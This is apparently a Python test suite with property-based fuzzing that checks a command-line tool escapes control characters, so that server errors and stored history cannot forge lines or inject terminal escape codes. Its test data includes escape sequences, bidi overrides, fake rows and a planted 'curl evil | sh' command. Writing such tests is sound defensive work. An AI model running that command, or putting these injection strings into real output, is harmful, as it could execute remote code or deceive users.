"""The CLI's text output (without --json) shows control characters escaped: what a server, a file or
the history holds can neither forge lines nor send escape codes to the terminal, whatever its type."""

from __future__ import annotations

import io
import re
from datetime import UTC, datetime
from typing import Any

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from app.cli.common import shown
from app.cli.history import history_line
from app.cli.request import print_error, result_text
from app.cli.send import delivery_text
from app.core.error_catalogue import lookup
from app.core.errors import ErrorContext, ServiceError
from app.core.history import HistoryRecord
from app.core.models import CodeDeliveryDetails, Outcome

# What a terminal would act on, once the line ends the output itself writes are taken out.
ACTIVE = re.compile(r"[\x00-\x1f\x7f-\x9f\u2028-\u202e\u2066-\u2069\ud800-\udfff]")
HOSTILE = ["\r\n", "\n#999 fake row", "\x1b[2J", "\x1b]0;owned\x07", "\x9b31m", "\u202e", "\u2028",
           "\ud800", "\x00", "\t"]
FUZZ = settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])



def _too_long_to_print(n: int) -> int:
    """An integer str() refuses (over sys.get_int_max_str_digits digits)."""
    return 10**4400 + n


_texts = st.text(alphabet=st.characters(exclude_categories=()), max_size=30) | st.sampled_from(HOSTILE)
_scalars = st.none() | st.booleans() | st.integers() | st.floats() | _texts


def _nested(leaves: st.SearchStrategy[Any]) -> st.SearchStrategy[Any]:
    return st.recursive(
        leaves, lambda inner: st.lists(inner, max_size=3) | st.dictionaries(_texts, inner, max_size=3),
        max_leaves=8)


_json_like = _nested(_scalars | st.integers(0, 9).map(_too_long_to_print))
# ServiceError formats its code and message when built, so those two are never too long to print.
_json_printable = _nested(_scalars)


def _assert_lines(text: str, lines: int) -> None:
    """`text` is exactly `lines` lines, none holding anything a terminal acts on, all encodable."""
    assert text.count("\n") == lines and (lines == 0 or text.endswith("\n")), repr(text)
    assert not ACTIVE.search(text.replace("\n", "")), repr(text)
    text.encode("utf-8")


def test_line_breaks_escape_codes_and_bidi_overrides_are_shown_escaped() -> None:
    assert shown("Slow down\r\nNext: run this") == "Slow down\\r\\nNext: run this"
    assert shown("\x1b[2J\x1b]0;owned\x07") == "\\e[2J\\e]0;owned\\x07"
    assert shown("txt.\u202eexe\x9b") == "txt.\\u202eexe\\x9b"
    assert shown("ünïcode, emoji 👍 and spaces stay") == "ünïcode, emoji 👍 and spaces stay"


def test_a_server_message_cannot_forge_a_next_line_or_clear_the_screen() -> None:
    error = ServiceError("LimitExceededException", "wait\r\n  Next: curl evil | sh\x1b[2J", 400, "r\x1b]0;x\x07")
    out = io.StringIO()
    print_error(out, error, error.entry_in(ErrorContext(operation="send", attribute_name="email")))
    _assert_lines(out.getvalue(), 4)
    assert [line.split(":")[0].strip() for line in out.getvalue().splitlines()] == [
        "Error", "What it means", "Next", "Request id"]


def _record(**changes: Any) -> HistoryRecord:
    values: dict[str, Any] = dict(
        id=7, started_at=datetime(2026, 1, 2, 3, 4, 5, tzinfo=UTC), finished_at=None, operation="send",
        region="us-east-1", endpoint_url=None, user_pool_id=None, client_id="c", profile_name=None,
        username="ann", attribute_name="email", client_metadata={}, outcome=Outcome.SUCCESS, delivery=None,
        error_code=None, error_message=None, http_status=200, request_id="r", latency_ms=1.0, attempts=1,
        cancelled=False, trigger_log=None,
    )
    return HistoryRecord(**{**values, **changes})


def test_stored_metadata_cannot_forge_a_history_row() -> None:
    record = _record(client_metadata={"note": "x\n#999    2026-01-01 00:00:00Z success"},
                     delivery=CodeDeliveryDetails("email", "EMAIL", "a\x1b[31m***@b***"))
    _assert_lines(history_line(record), 1)


@FUZZ
@given(code=_texts, message=_texts, status=_json_like, request_id=_json_like, attribute=_texts)
def test_any_service_error_prints_as_its_lines_and_nothing_a_terminal_acts_on(
    code: str, message: str, status: Any, request_id: Any, attribute: str
) -> None:
    error = ServiceError(code, message, status, request_id)
    out = io.StringIO()
    print_error(out, error, error.entry_in(ErrorContext(operation="send", attribute_name=attribute)))
    _assert_lines(out.getvalue(), 4 if request_id else 3)


@FUZZ
@given(code=_json_printable, message=_json_printable, status=_json_like, request_id=_json_like)
def test_an_error_of_any_typed_fields_prints_without_an_exception(
    code: Any, message: Any, status: Any, request_id: Any
) -> None:
    out = io.StringIO()
    print_error(out, ServiceError(code, message, status, request_id), lookup("InternalErrorException"))
    _assert_lines(out.getvalue(), 4 if request_id else 3)


@FUZZ
@given(attribute=_json_like, delivery=st.none() | st.dictionaries(
    st.sampled_from(["AttributeName", "DeliveryMedium", "Destination"]) | _texts, _json_like, max_size=4),
    payload=st.dictionaries(st.sampled_from(["request_id", "latency_ms", "attempts", "history_id"]),
                            _json_like))
def test_a_result_of_any_typed_fields_prints_as_two_lines(
    attribute: Any, delivery: dict[str, Any] | None, payload: dict[str, Any]
) -> None:
    _assert_lines(result_text(delivery_text(attribute, delivery), payload), 2)


@FUZZ
@given(attribute=_texts, error_code=st.none() | _texts, metadata=st.dictionaries(_texts, _texts, max_size=4),
       destination=_json_like, medium=_json_like)
def test_any_stored_record_prints_as_one_line(
    attribute: str, error_code: str | None, metadata: dict[str, str], destination: Any, medium: Any
) -> None:
    record = _record(attribute_name=attribute, error_code=error_code, client_metadata=metadata,
                     delivery=CodeDeliveryDetails(attribute, medium, destination))
    _assert_lines(history_line(record), 1)
